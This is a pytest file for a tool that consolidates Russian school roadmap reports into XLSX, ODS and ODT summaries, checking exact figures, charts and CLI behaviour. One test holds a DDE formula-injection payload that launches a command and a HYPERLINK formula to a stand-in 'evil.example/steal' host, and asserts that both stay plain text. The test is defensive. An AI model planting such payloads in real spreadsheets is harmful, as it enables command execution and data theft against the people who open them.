"""The demo chain end to end: exact figures read back from the XLSX, the ODS and the ODT."""

from __future__ import annotations

import json
import zipfile

from click.testing import CliRunner
from odf import opendocument, teletype, text
from openpyxl import load_workbook

from roadmap_office.cli import main
from roadmap_office.sheets.reading import read_workbook

REPORT = "report"
BY_STATUS = {"выполнено": 219, "выполняется": 296, "не начато": 13, "не выполнено": 20, "не указан": 1}
SCHOOL_COMPLETION = {"G02": 56.0, "L03": 51.0, "S05": 38.8, "S09": 16.0, "S10": 46.2, "S11": 28.6, "S12": 36.7,
                     "S13": 28.6, "S14": 49.0, "L15": 38.8, "S16": 42.9}


def test_demo_layout(demo_run):
    out = demo_run.outdir
    assert (out / "master.ods").is_file()
    assert len(list((out / "templates").glob("*.ods"))) == 13  # 12 schools + a blank
    assert len(list((out / "templates").glob("*.xlsx"))) == 13
    assert len(list((out / "submissions").iterdir())) == 13  # 12 template files (S05 twice) + a foreign one
    assert sorted(p.name for p in (out / REPORT).iterdir()) == [
        "Свод_по_дорожной_карте.ods", "Свод_по_дорожной_карте.xlsx", "Сводный_отчёт.odt"]
    second = out / "II_полугодие_2022_г"
    assert (second / "master.ods").is_file()
    assert len(list((second / "templates").glob("*.xlsx"))) == 13
    assert len(list((second / "submissions").iterdir())) == 10  # S13 and S17 send nothing
    assert sorted(p.name for p in (second / REPORT).iterdir()) == [
        "Свод_по_дорожной_карте.ods", "Свод_по_дорожной_карте.xlsx", "Сводный_отчёт.odt"]
    assert (out / "history.sqlite").is_file()


def test_demo_history_holds_both_half_years(demo_run):
    data = json.loads(CliRunner().invoke(main, ["history", str(demo_run.outdir / "history.sqlite"), "--json"]).output)
    assert data["periods"] == [
        {"period": "I полугодие 2022 г.", "start": "2022-01-01", "end": "2022-06-30", "as_of": "2022-06-30",
         "schools_expected": 12, "schools_submitted": 11, "completion_pct": 39.3, "overdue": 49},
        {"period": "II полугодие 2022 г.", "start": "2022-07-01", "end": "2022-12-31", "as_of": "2022-12-30",
         "schools_expected": 12, "schools_submitted": 10, "completion_pct": 48.5, "overdue": 41},
    ]
    doc = opendocument.load(str(demo_run.second.outdir / REPORT / "Сводный_отчёт.odt"))
    body = "\n".join(teletype.extractText(p) for p in doc.getElementsByType(text.P))
    assert "Сравниваются итоги 2 отчётных периодов (с 01.01.2022 по 31.12.2022)" in body
    assert "МБОУ Лицей № 3 (51,0 % → 46,9 %); МБОУ Школа № 11 (28,6 % → 24,5 %)." in body
    assert "не представившие за текущий период: МБОУ Школа № 13." in body


def test_summary_figures(demo_run):
    summary = demo_run.consolidation.summary_json()
    assert summary["schools_expected"] == 12
    assert summary["schools_submitted"] == 11
    assert summary["schools_missing"] == ["S17"]
    assert summary["duplicates"] == [{
        "school": "S05", "used": "Отчёт_S05_МБОУ_Школа_N_5_I_полугодие_2022_г_исправленный.xlsx",
        "ignored": ["Отчёт_S05_МБОУ_Школа_N_5_I_полугодие_2022_г.ods"], "differ": True, "newer_by_save_date": []}]
    (warning,) = summary["warnings"]  # the corrected file holds other answers: said before any figure
    assert warning.startswith("От МБОУ Школа № 5 (S05) получено несколько файлов с разными сведениями")
    assert [r["file"] for r in summary["files_rejected"]] == ["Отчёт_школы_17_по_дорожной_карте.xlsx"]
    assert "не является шаблоном" in summary["files_rejected"][0]["reason"]
    assert summary["problems"] == 10
    assert summary["items"] == 79
    assert summary["records"] == 549
    assert summary["by_status"] == BY_STATUS
    assert summary["completion_pct"] == 39.3
    assert summary["overdue"] == 49


def test_xlsx_workbook_figures(demo_run):
    wb = load_workbook(demo_run.outdir / REPORT / "Свод_по_дорожной_карте.xlsx")
    assert wb.sheetnames == ["Сводка", "По разделам", "По мероприятиям", "По школам", "Все записи",
                             "Собственные мероприятия", "Показатели", "Динамика", "Замечания"]
    schools = wb["По школам"]
    rows = {r[0]: r for r in schools.iter_rows(min_row=3, values_only=True) if r[0]}
    assert {code: rows[code][5] for code in SCHOOL_COMPLETION} == SCHOOL_COMPLETION
    assert rows["S17"][2] == "отчёт не представлен"
    assert rows["S09"][6] == 10  # overdue items
    assert len(schools._charts) == 1 and len(wb["По разделам"]._charts) == 1
    records = wb["Все записи"]
    assert records.max_row == 1 + 549
    assert records.auto_filter.ref == "A1:O550"
    sections = wb["По разделам"]
    total = next(r for r in sections.iter_rows(values_only=True) if r[1] == "Итого")
    assert total[2:7] == (79, 544, 214, 39.3, 49)
    problems = wb["Замечания"]
    assert problems.max_row == 1 + 1 + 10  # header, the rejected file, ten findings
    indicators = {r[1]: r for r in wb["Показатели"].iter_rows(values_only=True)}
    assert indicators["По округу"][2:10] == (64.3, 90.9, 962, 63.8, 6, 90.9, 61.3, 834)


def test_ods_workbook_has_the_same_figures_and_native_charts(demo_run):
    path = demo_run.outdir / REPORT / "Свод_по_дорожной_карте.ods"
    ods = read_workbook(path)
    xlsx = read_workbook(demo_run.outdir / REPORT / "Свод_по_дорожной_карте.xlsx")
    assert ods == xlsx
    with zipfile.ZipFile(path) as archive:
        charts = [n for n in archive.namelist() if n.startswith("Object ") and n.endswith("content.xml")]
        assert len(charts) == 2
        assert b"chart:bar" in archive.read(charts[0])


def test_charts_below_a_table_are_printed_whole_on_a_page_of_their_own(demo_run):
    """A page break before each chart, and a print scale (Excel ignores manual breaks under «fit
    to width») at which the columns fit the page; the XLSX chart has its own size and ends within
    the sheet's columns, so it stays within the printed range."""
    import re

    from roadmap_office.sheets.spec import column_letter

    path = demo_run.outdir / REPORT / "Свод_по_дорожной_карте.xlsx"
    wb = load_workbook(path)
    with zipfile.ZipFile(path) as archive:
        drawings = [n for n in archive.namelist() if re.match(r"xl/drawings/drawing\d+\.xml$", n)]
    assert len(drawings) == 2
    for name in ("По разделам", "По школам"):
        ws = wb[name]
        column = ws._charts[0].anchor._from.col
        # the columns from the chart's anchor to the sheet's last, in pixels of the default font's digits
        room = sum(round(ws.column_dimensions[column_letter(c)].width * 7) for c in range(column, ws.max_column))
        assert ws._charts[0].anchor.ext.width <= room * 9525, (name, ws._charts[0].anchor.ext.width, room)
    for name in ("По разделам", "По школам"):
        ws = wb[name]
        assert [b.id for b in ws.row_breaks.brk] == [ws._charts[0].anchor._from.row]  # the page starts at the chart
        assert 10 <= ws.page_setup.scale < 100 and not ws.sheet_properties.pageSetUpPr.fitToPage
    with zipfile.ZipFile(demo_run.outdir / REPORT / "Свод_по_дорожной_карте.ods") as archive:
        content, styles = archive.read("content.xml").decode(), archive.read("styles.xml").decode()
    breaking = re.findall(r'style:name="(ro\d+)" style:family="table-row"[^>]*><style:table-row-properties[^>]*'
                          r'fo:break-before="page"', content)
    assert sum(content.count(f'<table:table-row table:style-name="{name}"') for name in breaking) == 2
    assert len(re.findall(r'style:scale-to="\d+%"', styles)) == 2


def test_odt_report_phrases_and_numbers(demo_run):
    doc = opendocument.load(str(demo_run.outdir / REPORT / "Сводный_отчёт.odt"))
    paragraphs = [teletype.extractText(p) for p in doc.getElementsByType(text.P)]
    body = "\n".join(paragraphs)
    assert "СВОДНЫЙ ОТЧЁТ" in paragraphs
    assert "о ходе реализации дорожной карты «План мероприятий («дорожная карта» 2.3)" in body
    assert "Отчётный период: I полугодие 2022 г. Данные по состоянию на 30.06.2022." in paragraphs
    assert "Не представили отчёт (1): МБОУ Школа № 17." in paragraphs
    assert "Выполнение мероприятий школами, %" in paragraphs
    assert paragraphs[paragraphs.index("Выполнение мероприятий школами, %") + 1] == "39,3"
    assert "Отстают от среднего по округу (39,3 %)" in body
    assert "МБОУ «Школа-интернат № 9» (16,0 %)" in body
    assert "Начальник департамента образования" in body
    with zipfile.ZipFile(demo_run.outdir / REPORT / "Сводный_отчёт.odt") as archive:
        assert archive.namelist()[0] == "mimetype"
        assert b"<svg" in archive.read("Pictures/sections.svg")


def test_text_from_submissions_stays_text(demo_run):
    """A typed "=cmd|..." and a real =HYPERLINK formula come out as text in every format."""
    ws = load_workbook(demo_run.outdir / REPORT / "Свод_по_дорожной_карте.xlsx")["Все записи"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    values = {c.value for c in cells}
    assert "=cmd|' /C calc'!A0" in values
    assert '=HYPERLINK("http://evil.example/steal","Отчёт о мероприятии")' in values
    assert all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(demo_run.outdir / REPORT / "Свод_по_дорожной_карте.ods") as archive:
        assert b"table:formula" not in archive.read("content.xml")


def test_check_finds_every_planted_mistake(demo_run):
    from roadmap_office.demo import demo_roadmap  # noqa: F401  (the same master as the demo)
    from roadmap_office.demo_submissions import write_demo_submissions
    from roadmap_office.master import read_master
    from roadmap_office.pipeline import check_one

    master = demo_run.master
    _, planted = write_demo_submissions(read_master(master), demo_run.outdir / "again")
    assert len(planted) == 10
    for mistake in planted:
        result = check_one(demo_run.outdir / "again" / mistake.file, master)
        cells = {(f.sheet, f.cell) for f in result.findings}
        assert (mistake.sheet, mistake.cell) in cells, (mistake, result.findings)


def test_cli_check_exit_codes_and_json(demo_run):
    sub = demo_run.outdir / "submissions"
    runner = CliRunner()
    clean = runner.invoke(main, ["check", str(sub / "Отчёт_G02_МБОУ_Гимназия_N_2_I_полугодие_2022_г.ods"),
                                 "--master", str(demo_run.master)])
    assert clean.exit_code == 0 and "замечаний нет" in clean.output
    bad = runner.invoke(main, ["check", str(sub / "Отчёт_L03_МБОУ_Лицей_N_3_I_полугодие_2022_г.xlsx"), "--json"])
    assert bad.exit_code == 1
    data = json.loads(bad.output)
    assert data["school"] == "L03"
    assert {(p["sheet"], p["cell"]) for p in data["problems"]} == {("Мероприятия", "F7"), ("Мероприятия", "H5")}
    assert any("недопустимый статус «сделали»" in p["message"] for p in data["problems"])
    foreign = runner.invoke(main, ["check", str(sub / "Отчёт_школы_17_по_дорожной_карте.xlsx")])
    assert foreign.exit_code == 2 and "не принят" in foreign.output


def test_cli_consolidate_json(demo_run, tmp_path):
    result = CliRunner().invoke(main, ["consolidate", str(demo_run.master), str(demo_run.outdir / "submissions"),
                                       "-o", str(tmp_path), "--format", "xlsx", "--as-of", "30.06.2022", "--json"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert data["records"] == 549 and data["overdue"] == 49
    assert data["outputs"] == [str(tmp_path / "Свод_по_дорожной_карте.xlsx")]
    bad = CliRunner().invoke(main, ["consolidate", str(demo_run.master), str(tmp_path), "-o", str(tmp_path),
                                    "--as-of", "вчера"])
    assert bad.exit_code == 2 and "не является датой" in bad.output
